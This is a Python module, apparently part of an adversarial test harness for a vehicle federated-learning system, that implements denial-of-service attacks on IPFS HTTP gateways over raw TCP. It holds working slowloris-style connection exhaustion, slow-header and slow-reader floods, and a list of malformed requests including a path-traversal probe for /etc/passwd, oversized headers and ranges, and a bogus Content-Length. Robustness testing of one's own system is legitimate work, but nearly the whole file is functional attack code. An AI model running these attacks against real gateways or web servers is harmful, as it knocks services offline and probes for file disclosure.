"""Attacks on the vehicles' gateways, over plain TCP."""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

from adversary.stranger import Attack, Attacker
from bift_ros.storage.cid import cid_of

CONNECTIONS = 600
"""More than a gateway has."""


def _connect(url: str) -> socket.socket:
    parts = urlsplit(url)
    assert parts.hostname is not None
    assert parts.port is not None
    return socket.create_connection((parts.hostname, parts.port), 5)


def _hold(attacker: Attacker, first: bytes, drip: Callable[[socket.socket], Any]) -> None:
    """Keep many connections to every gateway, and open each anew that has been ended."""
    import resource

    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held: list[tuple[str, socket.socket]] = []
    while attacker.running:
        for gateway in attacker.target.gateways:
            mine = sum(1 for url, _ in held if url == gateway)
            for _ in range(min(100, CONNECTIONS - mine)):
                with contextlib.suppress(OSError):
                    one = _connect(gateway)
                    one.sendall(first)
                    one.setblocking(False)
                    held.append((gateway, one))
                    attacker.sent += 1
        kept = []
        for url, one in held:
            try:
                drip(one)
                kept.append((url, one))
            except BlockingIOError:
                kept.append((url, one))
            except OSError:
                one.close()
        held = kept
        time.sleep(0.2)
    for _, one in held:
        one.close()


def _nothing(one: socket.socket) -> None:
    if one.recv(1) == b"":
        raise ConnectionResetError


def silent_connections(attacker: Attacker) -> None:
    """Connections that say nothing, more than a gateway has."""
    _hold(attacker, b"", _nothing)


def slow_headers(attacker: Attacker) -> None:
    """Requests whose heads come a byte at a time and never end."""
    _hold(attacker, b"GET /ipfs/", lambda one: one.send(b"a"))


def slow_readers(attacker: Attacker) -> None:
    """Large answers that are asked for, many on one connection, and not read."""
    request = b"GET /ipfs/%s?format=car HTTP/1.1\r\nHost: a\r\n\r\n" % _some_file(attacker)
    _hold(attacker, request * 3, lambda one: one.send(b""))


def odd_requests(attacker: Attacker) -> None:
    """Ranges, paths, methods and heads that no honest client has."""
    name = _some_file(attacker)
    requests = (
        b"GET /ipfs/%s HTTP/1.1\r\nHost: a\r\nRange: bytes=0-%d\r\n\r\n" % (name, 10**30),
        b"GET /ipfs/%s HTTP/1.1\r\nHost: a\r\nRange: bytes=%s\r\n\r\n" % (name, b"0-1," * 900),
        b"GET /ipfs/../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /%s HTTP/1.1\r\nHost: a\r\n\r\n" % (b"a" * 900_000),
        b"GET / HTTP/1.1\r\n" + b"X: %s\r\n" % (b"a" * 900) * 5000,
        b"POST /ipfs/ HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999\r\n\r\n" + bytes(500_000),
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
        b"\x16\x03\x01" + bytes(500),
        (b"GET /ipfs/%s HTTP/1.1\r\nHost: a\r\n\r\n" % cid_of(b"none").encode()) * 200,
    )
    while attacker.running:
        for gateway in attacker.target.gateways:
            for request in requests:
                with contextlib.suppress(OSError), _connect(gateway) as one:
                    one.sendall(request)
                    attacker.sent += 1


def _some_file(attacker: Attacker) -> bytes:
    """The newest global model, which every vehicle has."""
    from adversary.files import current_task

    return current_task(attacker).global_cid.encode()


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (silent_connections, slow_headers, slow_readers, odd_requests)
}
